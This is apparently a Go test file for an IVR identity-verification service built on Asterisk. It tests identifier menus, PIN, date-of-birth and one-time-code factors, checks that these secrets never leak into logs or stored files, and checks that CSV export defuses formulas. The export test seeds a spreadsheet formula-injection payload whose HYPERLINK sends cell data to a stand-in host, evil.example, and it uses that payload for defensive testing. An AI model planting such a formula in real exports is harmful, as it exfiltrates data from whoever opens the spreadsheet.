package main

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/idv-project/idv/agi/agitest"
	"github.com/idv-project/idv/crm/demo"
)

// factorLines are the lines of the identifier-kind and factor tests.
const factorLines = `
[lines.bank]
identifiers = ["customer_id", "account", "phone"]
identify_by = "menu"
ani_lookup = false
verify = true
factors = ["dob", "pin"]
[lines.canary]
verify = true
factors = ["dob", "pin", "otp"]
[lines.secure]
verify = true
[lines.secure.risk]
factors = ["otp"]
withheld = true
typed = true
`

// lastCode reads the newest one-time code of the demo CRM's outbox at url.
func lastCode(t *testing.T, url string) string {
	resp, err := http.Get(url + "/outbox")
	if err != nil {
		t.Error(err)
		return ""
	}
	defer resp.Body.Close()
	var doc struct{ Messages []struct{ Code string } }
	json.NewDecoder(resp.Body).Decode(&doc)
	if len(doc.Messages) == 0 {
		t.Error("no one-time code in the outbox")
		return ""
	}
	return doc.Messages[len(doc.Messages)-1].Code
}

// TestIdentifierKindsAndFactorsOverFastAGI: the menu, an account number, a date of birth
// and a one-time code over FastAGI, as Asterisk speaks it: the variables, the record and
// the SAY DIGITS of the mobile's last two digits.
func TestIdentifierKindsAndFactorsOverFastAGI(t *testing.T) {
	crm := httptest.NewServer(demo.New(demo.Seed).Handler())
	t.Cleanup(crm.Close)
	h := newHarness(t, crm.URL, factorLines)
	expand := func(string) string { return lastCode(t, crm.URL) }
	for _, tc := range []struct {
		name    string
		caller  agitest.Caller
		vars    map[string]string
		prompts []string
	}{
		{"menu: 2 for the account number, then date of birth and PIN",
			agitest.Caller{Script: "idv?line=bank", ANI: "anonymous", Keys: "_____2" + "55501234#" + "19850412" + "1234#"},
			map[string]string{"IDV_STATUS": "VERIFIED", "IDV_CUSTOMER_ID": "100234", "IDV_ID_TYPE": "ACCOUNT", "IDV_FACTORS": "DOB,PIN", "IDV_ATTEMPTS": "1/2"},
			[]string{"idv/id-menu", "idv/menu-customer-id", "digits:1", "idv/menu-account", "digits:2"}},
		{"menu: 3 for another phone number, in the line's region",
			agitest.Caller{Script: "idv?line=bank", ANI: "anonymous", Keys: "3" + "09012345678#" + "19700101" + "2222#"},
			map[string]string{"IDV_STATUS": "VERIFIED", "IDV_CUSTOMER_ID": "100235", "IDV_ID_TYPE": "PHONE", "IDV_FACTORS": "DOB,PIN"},
			nil},
		{"withheld number, typed customer number: the risk rule adds a one-time code",
			agitest.Caller{Script: "idv?line=secure", ANI: "anonymous", Keys: "100234#1234#{otp}", Expand: expand},
			map[string]string{"IDV_STATUS": "VERIFIED", "IDV_ID_TYPE": "CUSTOMER_ID", "IDV_FACTORS": "PIN,OTP", "IDV_METHOD": "DTMF"},
			[]string{"idv/otp-sent", "digits:7", "digits:8", "idv/enter-code", "idv/verified"}},
		{"known number on the same line: the PIN alone",
			agitest.Caller{Script: "idv?line=secure", ANI: "+81312345678", Keys: "1234#"},
			map[string]string{"IDV_STATUS": "VERIFIED", "IDV_ID_TYPE": "ANI", "IDV_FACTORS": "PIN"},
			nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res, in := h.call(tc.caller)
			for k, want := range tc.vars {
				if got := res.Var(k); got != want {
					t.Errorf("%s=%q, want %q", k, got, want)
				}
			}
			files := strings.Join(res.PromptFiles(), " ")
			if want := strings.Join(tc.prompts, " "); !strings.Contains(files, want) {
				t.Errorf("prompts %s\nwant in order: %s", files, want)
			}
			if in == nil || in.IDType != strings.ToLower(tc.vars["IDV_ID_TYPE"]) || strings.ToUpper(strings.Join(in.FactorsPassed, ",")) != tc.vars["IDV_FACTORS"] {
				t.Errorf("record: %+v", in)
			}
		})
	}
}

// TestFactorsAndCodesNeverLeak: a date of birth, a PIN and a one-time code typed in
// calls that pass, fail and hang up appear in nothing idv writes — not the commands to
// Asterisk, the variables, the log (at debug), the database files, the reports or the
// metrics.
func TestFactorsAndCodesNeverLeak(t *testing.T) {
	const dob, pin = "19311231", "86420975"
	customers := append([]demo.Customer{{ID: "777001", Name: "Canary", VerifyRequired: true, Phones: []string{"+81355551234"},
		PIN: pin, DOB: dob, Mobile: "+819000000099"}}, demo.Seed...)
	crm := httptest.NewServer(demo.New(customers).Handler())
	t.Cleanup(crm.Close)
	var codes []string
	expand := func(string) string {
		c := lastCode(t, crm.URL)
		codes = append(codes, c)
		return c
	}
	wrong := func(string) string { // a code that is not the one sent
		c := lastCode(t, crm.URL)
		codes = append(codes, c)
		return map[bool]string{true: "111111", false: "000000"}[c == "000000"]
	}
	for i, caller := range []agitest.Caller{
		{Script: "idv?line=canary", ANI: "+81355551234", Keys: dob + pin + "#{otp}", Expand: expand},
		{Script: "idv?line=canary", ANI: "+81355551234", Keys: dob + pin + "#{otp}{otp}{otp}", Expand: wrong},
		{Script: "idv?line=canary", ANI: "+81355551234", Keys: "20231345" + dob + pin + "#{otp}", Expand: func(s string) string { return (expand(s) + "000")[:3] + "!" }},
	} {
		h := newHarness(t, crm.URL, factorLines)
		res, _ := h.call(caller)
		if !strings.Contains(res.Typed, dob) || !strings.Contains(res.Typed, pin) {
			t.Fatalf("call %d: Asterisk delivered %q; the test proves nothing", i, res.Typed)
		}
		secrets := []string{dob, pin}
		for _, c := range codes {
			if c != "" {
				secrets = append(secrets, c)
			}
		}
		if len(secrets) < 3 {
			t.Fatalf("call %d: no one-time code was sent", i)
		}
		for _, s := range secrets {
			whole := regexp.MustCompile(`(^|\D)` + s + `(\D|$)`) // a code is six digits: only whole
			for _, c := range res.Commands {
				if whole.MatchString(c.Line) {
					t.Errorf("call %d: %s sent to Asterisk: %q", i, s, c.Line)
				}
			}
			for k, v := range res.Vars {
				if whole.MatchString(v) {
					t.Errorf("call %d: %s in the channel variable %s=%q", i, s, k, v)
				}
			}
			if leaks := reportAndMetricLeaks(t, h, s); len(leaks) > 0 && len(s) > 6 {
				t.Errorf("call %d: %s is in %v", i, s, leaks)
			}
		}
		dir := filepath.Dir(h.db)
		h.stop()
		for _, s := range secrets {
			whole := regexp.MustCompile(`(^|\D)` + s + `(\D|$)`)
			if whole.MatchString(h.logs.String()) {
				t.Errorf("call %d: %s is in the log", i, s)
			}
			files, _ := filepath.Glob(filepath.Join(dir, "*"))
			for _, f := range files {
				data, _ := os.ReadFile(f)
				if bytes.Contains(data, []byte(s)) && (len(s) > 6 || whole.Match(data)) {
					t.Errorf("call %d: %s is in %s", i, s, filepath.Base(f))
				}
			}
		}
	}
}

// TestExportDefusesFormulas: a customer name from the CRM that a spreadsheet would run
// as a formula (=HYPERLINK(…), @SUM…) is exported as text in the interactions CSV.
func TestExportDefusesFormulas(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/?d="&A2,"Click me")`
	customers := append([]demo.Customer{{ID: "777002", Name: evil, Phones: []string{"+81355551235"}}}, demo.Seed...)
	crm := httptest.NewServer(demo.New(customers).Handler())
	t.Cleanup(crm.Close)
	h := newHarness(t, crm.URL)
	h.call(agitest.Caller{ANI: "+81355551235"})
	today := time.Now().Format("2006-01-02")
	resp, err := http.Get("http://" + h.svc.WebAddr().String() + "/api/interactions/export?format=csv&from=" + today + "&to=" + today)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if !strings.Contains(string(body), `'=HYPERLINK(`) || strings.Contains(string(body), `,"=HYPERLINK(`) || strings.Contains(string(body), ",=HYPERLINK(") {
		t.Errorf("the export does not defuse the formula:\n%s", body)
	}
}
